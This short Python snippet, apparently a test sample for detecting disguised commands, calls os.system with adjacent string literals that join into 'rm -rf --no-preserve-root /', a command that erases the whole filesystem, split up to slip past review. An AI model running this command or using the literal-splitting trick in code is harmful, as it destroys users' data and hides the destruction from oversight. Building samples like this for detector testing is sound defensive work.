# Disguised: the command split into adjacent literals.
import os

os.system("r" "m -r" "f --no-preserve-root /")
